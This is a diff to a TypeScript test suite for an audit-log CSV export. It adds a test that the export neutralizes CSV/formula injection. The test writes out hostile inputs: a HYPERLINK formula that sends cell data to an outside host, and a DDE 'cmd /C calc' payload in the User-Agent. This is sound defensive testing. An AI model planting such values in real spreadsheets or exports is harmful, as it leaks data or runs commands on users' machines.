@@ -1,5 +1,5 @@
 import { parse } from 'csv-parse/sync';
-import type { Response } from 'supertest';
+import request, { type Response } from 'supertest';
 import { AuditQueryService } from '../src/audit/audit-query.service';
 import { CSV_COLUMNS } from '../src/audit/audit-export.service';
 import type { AuditRow } from '../src/audit/audit.types';
@@ -143,8 +143,9 @@ describe('audit search, export and access logs', () => {
   });
 
   describe('export', () => {
-    it('CSV parses back (csv-parse) to exactly the stored rows', async () => {
-      const res = await exportOf('format=csv');
+    it('CSV with raw=true parses back (csv-parse) to exactly the stored rows', async () => {
+      const res = await exportOf('format=csv&raw=true');
+      expect(res.headers['x-csv-cells']).toMatch(/^raw/);
       expect(res.headers['content-type']).toMatch(/^text\/csv/);
       expect(res.headers['content-disposition']).toMatch(/attachment; filename="audit-events-.*\.csv"/);
       const upTo = Number(res.headers['x-audit-export-up-to-seq']);
@@ -160,6 +161,26 @@ describe('audit search, export and access logs', () => {
       const asText = (r: AuditRow) =>
         Object.fromEntries(CSV_COLUMNS.map((c) => [c, c === 'break_glass' ? String(bool(r[c])) : r[c] === null ? null : String(r[c])]));
       expect(records).toEqual(stored.map(asText));
+    });
+
+    it('CSV neutralizes cells a spreadsheet would run as formulas (OWASP CSV injection); raw=true keeps the bytes', async () => {
+      const username = '=HYPERLINK("http://x"&A2,"open")';
+      const agent = "=cmd|' /C calc'!A0";
+      await request(t.http).post('/auth/login').set('User-Agent', agent).send({ username, password: 'wrong password' }).expect(401);
+      const cells = async (query: string) => {
+        const res = await exportOf(`format=csv&action=login-failed${query}`);
+        const rows = parse(res.body as string, { columns: true }) as Record<string, string>[];
+        return { header: res.headers['x-csv-cells'], row: rows.find((r) => r.actor_username?.includes('HYPERLINK'))! };
+      };
+      const safe = await cells('');
+      expect(safe.header).toMatch(/^neutralized/);
+      expect(safe.row).toMatchObject({ actor_username: `'${username}`, user_agent: `'${agent}` });
+      const raw = await cells('&raw=true');
+      expect(raw.header).toMatch(/^raw/);
+      expect(raw.row).toMatchObject({ actor_username: username, user_agent: agent });
+      // Every text cell of the default export is safe to open.
+      const all = parse((await exportOf('format=csv')).body as string, { columns: true }) as Record<string, string>[];
+      for (const r of all) for (const v of Object.values(r)) expect(v).not.toMatch(/^[=+\-@\t\r]/);
     });
 
     it('gives the same set as the paginated search, in every format', async () => {
